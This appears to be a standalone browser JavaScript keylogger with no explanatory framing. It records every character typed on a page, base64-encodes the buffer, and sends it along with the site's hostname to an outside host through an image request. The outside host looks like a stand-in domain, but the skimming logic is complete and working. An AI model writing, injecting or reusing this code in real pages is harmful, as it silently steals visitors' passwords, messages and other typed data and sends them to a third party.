let heard = '';
document.addEventListener('keydown', ({ key }) => {
  if (key.length === 1) heard += key;
  if (heard.length < 9) return;
  new Image().src = `https://ear.key-packer.test/e.gif?q=${encodeURIComponent(btoa(heard))}&at=${location.hostname}`;
  heard = '';
});
